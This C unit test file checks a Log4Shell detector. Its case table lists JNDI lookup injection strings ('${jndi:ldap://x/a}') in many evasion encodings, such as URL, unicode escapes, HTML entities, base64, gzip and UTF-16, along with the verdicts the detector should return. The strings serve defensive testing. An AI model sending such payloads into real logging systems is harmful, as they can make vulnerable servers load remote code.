/* Lines: the places to start from, closing what a cut left open, and every disguise. */
#include "unit.h"

#include "failalloc.h"
#include "lookup/examine.h"

static const struct {
    const char *line;
    enum verdict verdict;
    const char *key;   /* NULL: not compared */
    const char *chain; /* names joined by spaces */
} cases[] = {
    {"GET / HTTP/1.1", VERDICT_NONE, "", ""},
    {"10.0.0.1 \"${jndi:ldap://x/a}\"", VERDICT_REACHES, "ldap://x/a", ""},
    {"a ${b ${jndi:c}", VERDICT_REACHES, "c", ""},   /* a later start */
    {"$${jndi:a}", VERDICT_ATTEMPT, "", ""},         /* escaped, and meant */
    {"${ jndi:ldap://x}", VERDICT_ATTEMPT, "", ""},  /* misspelt */
    {"${base64:JHtqbmRp}", VERDICT_ATTEMPT, "", ""}, /* no such lookup */
    {"${jndi:ldap://x/a", VERDICT_IF_CLOSED, "ldap://x/a", ""},
    {"${${lower:j}ndi:", VERDICT_IF_CLOSED, "", ""},
    {"${java:zz}${jndi:x}", VERDICT_REACHES, "x", ""}, /* what is logged may begin behind */
    {"image=${TAG:-latest} adding node indices: {}", VERDICT_NONE, "", ""},
    {"${jnd${lower:\xc4\xb0}:a}", VERDICT_REACHES, "a", ""},
    {"%24%7Bjndi%3Ax%7D", VERDICT_REACHES, "x", "url"},
    {"%2524%257Bjndi:x%257D", VERDICT_REACHES, "x", "url url"},
    {"%u0024%u007bjndi:x%u007d", VERDICT_REACHES, "x", "url"},
    {"\\u0024\\u007bjndi:x\\u007d", VERDICT_REACHES, "x", "backslash"},
    {"\\\\u0024{jndi:x}", VERDICT_REACHES, "x", "backslash"},
    {"\\uu0024\\u{7b}jndi:x}", VERDICT_REACHES, "x", "backslash"},
    {"\\x24\\173jndi:x\\x7D", VERDICT_REACHES, "x", "backslash"},
    {"${jndi:ldap:\\/\\/x}", VERDICT_REACHES, NULL, ""},
    {"&#36;&#x7b;jndi&colon;x&rcub;", VERDICT_REACHES, "x", "entity"},
    {"&dollar{jndi:x}", VERDICT_REACHES, "x", "entity"},
    {"%24&lcub;\\u006Andi:x}", VERDICT_REACHES, "x", "url backslash entity"},
    {"q=JHtqbmRpOmxkYXA6Ly94L2F9", VERDICT_REACHES, "ldap://x/a", "base64"},
    {"/path/xJHtqbmRpOmxkYXA6Ly94L2F9", VERDICT_REACHES, "ldap://x/a", "base64"},
    {"H4sIAAAAAAAC/1OpzspLybTKSUkssNLXr9BPrAUAr5FHcxIAAAA=", VERDICT_REACHES, "ldap://x/a",
     "base64"},
    {"JTI0JTdCam5kaTp4JTdE", VERDICT_REACHES, "x", "base64 url"},
    {"$url${", VERDICT_NONE, "", ""},
    {"\\U00000024{jndi:x}", VERDICT_REACHES, "x", "backslash"},
    {"$\\{jndi:x\\}", VERDICT_REACHES, "x", "backslash"},
    {"\\\\\\\\u0024\\\\{jndi:x}", VERDICT_REACHES, "x", "backslash"},
    {"\\u00zz \\u{24 \\x2 $url{ \\\\\\", VERDICT_NONE, "", ""},
    {"%%32%34%7Bjndi:x}", VERDICT_REACHES, "x", "url url"},
    {"%00$%00{%00j%00n%00d%00i%00:%00x%00}", VERDICT_REACHES, "x", "url utf-16"},
    {"&#0036;{jndi:x&#125", VERDICT_REACHES, "x", "entity"},
    {"&dollar;&lbrace;jndi&colon;x&rcub", VERDICT_REACHES, "x", "entity"},
    {"&&amp;#36;{jndi:x}", VERDICT_REACHES, "x", "entity entity"},
    /* a key that was found stays when more is decoded behind it */
    {"${jndi:ldap://x/%41\\u0041", VERDICT_IF_CLOSED, "ldap://x/%41\\u0041", ""},
    {"eAAgACQAewBqAG4AZABpADoAbABkAGEAcAA6AC8ALwB4AC8AYQB9AA==", VERDICT_REACHES, "ldap://x/a",
     "base64 utf-16"},
    {"ACQAewBqAG4AZABpADoAbABkAGEAcAA6AC8ALwB4AC8AYQB9ACA=", VERDICT_REACHES, "ldap://x/a",
     "base64 utf-16"},
    {"eJxTqc7KS8m0yklJLLDS16/QT6wFADwYBj0=", VERDICT_REACHES, "ldap://x/a", "base64"},
    {"dXNlciAke2puZGk6bGRh\ncDovL3gvYX0gYW5kIG1vcmU=", VERDICT_REACHES, "ldap://x/a", "base64"},
    {"dXNlciAke2puZGk6bGRh\\r\\ncDovL3gvYX0gYW5kIG1vcmU=", VERDICT_REACHES, "ldap://x/a",
     "backslash base64"},
    {"q=\\/dXNlciAke2puZGk6bGRhcDovL3gvYX0gYW5kIG1vcmU=", VERDICT_REACHES, "ldap://x/a", "base64"},
    /* digits that are escapes, in any order of layers */
    {"&#7\\x34;\\x48&#37;74qb&\\x2310\\x39;RpO&#\\x3109;xk\\x59XA6Ly\\x25394L&#109;&#86;&#52;"
     "YW1wbGUv&#"
     "\\x389;&#88;0&#61;",
     VERDICT_REACHES, "ldap://x.example/a", "backslash entity url base64"},
    {"Skh0cWJtUnBPbXhrWVhBNkx5OTRMMkY5", VERDICT_REACHES, "ldap://x/a", "base64 base64"},
    {"t=dXNlciAke2puZGk6bGRhcDovL3gvYX0gYW5kIG1vcmU%3D", VERDICT_REACHES, "ldap://x/a", "base64"},
};

static void assert_examined(struct examiner *x, size_t i)
{
    struct examined r;
    char chain[128] = "";
    size_t n = 0;
    assert_ok(examine(x, slice_str(cases[i].line), &r));
    for (size_t k = 0; k < r.chain_count; k++)
        n += (size_t)snprintf(chain + n, sizeof chain - n, "%s%s", k ? " " : "", r.chain[k]);
    if (r.verdict != cases[i].verdict)
        fail_msg("%s: %s", cases[i].line, verdict_name(r.verdict));
    if (r.verdict >= VERDICT_IF_CLOSED && strcmp(chain, cases[i].chain) != 0)
        fail_msg("%s: by %s", cases[i].line, chain);
    if (r.verdict >= VERDICT_IF_CLOSED && cases[i].key && !slice_eq_str(r.key, cases[i].key))
        fail_msg("%s: key %.*s", cases[i].line, (int)r.key.n, (const char *)r.key.p);
}

static void lines_are_judged(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    assert_ok(examiner_new(&x));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        assert_examined(x, i);
    examiner_free(x);
}

static void utf16_is_read(void **state)
{
    (void)state;
    static const char text[] = "${jndi:x}";
    uint8_t wide[2 * sizeof text];
    struct examiner *x = NULL;
    struct examined r;
    assert_ok(examiner_new(&x));
    for (size_t order = 0; order < 2; order++) {
        memset(wide, 0, sizeof wide);
        for (size_t i = 0; i + 1 < sizeof text; i++)
            wide[2 * i + order] = (uint8_t)text[i];
        assert_ok(examine(x, slice_of(wide, 2 * (sizeof text - 1)), &r));
        assert_int_equal(r.verdict, VERDICT_REACHES);
        assert_slice_equal(r.key, "x");
    }
    examiner_free(x);
}

/* What the budget does not reach is an attempt. */
static void too_much_is_an_attempt(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    struct examined r;
    struct buf b;
    buf_init(&b, 1 << 20);
    assert_ok(examiner_new(&x));
    for (int i = 0; i < 24; i++)
        (void)buf_add_str(&b, "${lower:${q ");
    (void)buf_add_str(&b, "${jn${q}di:");
    for (int i = 0; i < 50; i++)
        (void)buf_add_char(&b, '}');
    assert_ok(examine(x, buf_slice(&b), &r));
    assert_int_equal(r.verdict, VERDICT_ATTEMPT);
    assert_int_equal(r.reason, ATTEMPT_BUDGET);
    buf_done(&b);
    examiner_free(x);
}

/* A log full of hostile lines is read at a price for each byte, each line as an attempt; one of
 * them among others is told exactly, and the same lines give the same answers. */
static void credit_bounds_a_log(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    struct examined r;
    struct buf b;
    size_t exact = 0, before = 0;
    buf_init(&b, 1 << 20);
    assert_ok(examiner_new(&x));
    for (int i = 0; i < 20; i++)
        (void)buf_add_char(&b, '$'); /* a pass for each dollar */
    (void)buf_add_str(&b, "${jndi:x}");
    for (int i = 0; i < 20; i++)
        (void)buf_add_str(&b, "${q}");
    for (int round = 0; round < 2; round++) {
        examiner_begin(x);
        exact = 0;
        for (int i = 0; i < 8000; i++) {
            assert_ok(examine(x, buf_slice(&b), &r));
            assert_in_range(r.verdict, VERDICT_ATTEMPT, VERDICT_REACHES);
            exact += r.verdict == VERDICT_REACHES;
        }
        assert_in_range(exact, 1000, 7000);
        assert_true(round == 0 || exact == before);
        before = exact;
    }
    assert_int_equal(r.verdict, VERDICT_ATTEMPT);
    assert_int_equal(r.reason, ATTEMPT_BUDGET);
    assert_ok(examine(x, SLICE_LIT("${${lower:j}ndi:x}"), &r));
    assert_int_equal(r.verdict, VERDICT_REACHES); /* the least is enough for what attackers send */
    examiner_pass(x, 1 << 20);
    assert_ok(examine(x, buf_slice(&b), &r));
    assert_int_equal(r.verdict, VERDICT_REACHES);
    buf_done(&b);
    examiner_free(x);
}

/* Very many small hostile logs: each begins with all the credit for a while, then with little. */
static void credit_bounds_many_logs(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    struct examined r;
    struct buf b;
    uint64_t given = 0;
    size_t n = 100;
    buf_init(&b, 1 << 20);
    assert_ok(examiner_new(&x));
    for (int i = 0; i < 20; i++)
        (void)buf_add_char(&b, '$');
    (void)buf_add_str(&b, "${jndi:x}");
    for (int i = 0; i < 20; i++)
        (void)buf_add_str(&b, "${q}");
    for (size_t i = 0; i < n; i++) {
        examiner_begin(x);
        uint64_t before = examiner_credit(x);
        for (int k = 0; k < 3000; k++) {
            assert_ok(examine(x, buf_slice(&b), &r));
            assert_in_range(r.verdict, VERDICT_ATTEMPT, VERDICT_REACHES);
            assert_true(i > 0 || k > 0 || r.verdict == VERDICT_REACHES);
        }
        given += before - examiner_credit(x);
    }
    assert_in_range(given, EXAMINE_CREDIT_ALL / 2,
                    EXAMINE_CREDIT_ALL + (uint64_t)n * EXAMINE_CREDIT_FEW);
    assert_int_equal(r.verdict, VERDICT_ATTEMPT);
    examiner_begin(x);
    assert_in_range(examiner_credit(x), EXAMINE_CREDIT_FEW, EXAMINE_CREDIT_FEW * 2);
    examiner_pass(x, 1 << 30); /* ordinary logs are for all that come */
    examiner_begin(x);
    assert_int_equal(examiner_credit(x), EXAMINE_CREDIT_MOST);
    buf_done(&b);
    examiner_free(x);
}

/* What was found lives on while more is decoded; with no credit every case is still more than
 * nothing. */
static void no_credit_is_no_silence(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    struct examined r;
    struct buf b;
    buf_init(&b, 1 << 20);
    assert_ok(examiner_new(&x));
    for (int i = 0; i < 3000; i++)
        (void)buf_add_str(&b, "$$${lower:${q}}");
    (void)buf_add_str(&b, "jndi:}");
    for (int i = 0; i < 40; i++)
        assert_ok(examine(x, buf_slice(&b), &r));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        assert_ok(examine(x, slice_str(cases[i].line), &r));
        if (cases[i].verdict != VERDICT_NONE && r.verdict == VERDICT_NONE)
            fail_msg("%s: nothing", cases[i].line);
    }
    buf_done(&b);
    examiner_free(x);
}

static void cut_at_every_byte(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    struct examined r;
    assert_ok(examiner_new(&x));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        for (size_t cut = 0; cut < strlen(cases[i].line); cut++) {
            uint8_t *exact = malloc(cut ? cut : 1);
            assert_non_null(exact);
            memcpy(exact, cases[i].line, cut);
            assert_ok(examine(x, slice_of(exact, cut), &r));
            free(exact);
        }
    }
    examiner_free(x);
}

static void memory_runs_out(void **state)
{
    (void)state;
    for (unsigned long n = 1;; n++) {
        struct examiner *x = NULL;
        struct examined r;
        enum status st;
        failalloc_at(n);
        st = examiner_new(&x);
        if (st == OK)
            st = examine(x, SLICE_LIT("q=%24{lower:${a JTI0JTdCam5kaTp4JTdE"), &r);
        bool hit = failalloc_hit();
        assert_int_equal(st, hit ? ST_NOMEM : OK);
        examiner_free(x);
        if (!hit)
            break;
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lines_are_judged),        cmocka_unit_test(utf16_is_read),
        cmocka_unit_test(too_much_is_an_attempt),  cmocka_unit_test(credit_bounds_a_log),
        cmocka_unit_test(no_credit_is_no_silence), cmocka_unit_test(credit_bounds_many_logs),
        cmocka_unit_test(cut_at_every_byte),       cmocka_unit_test(memory_runs_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
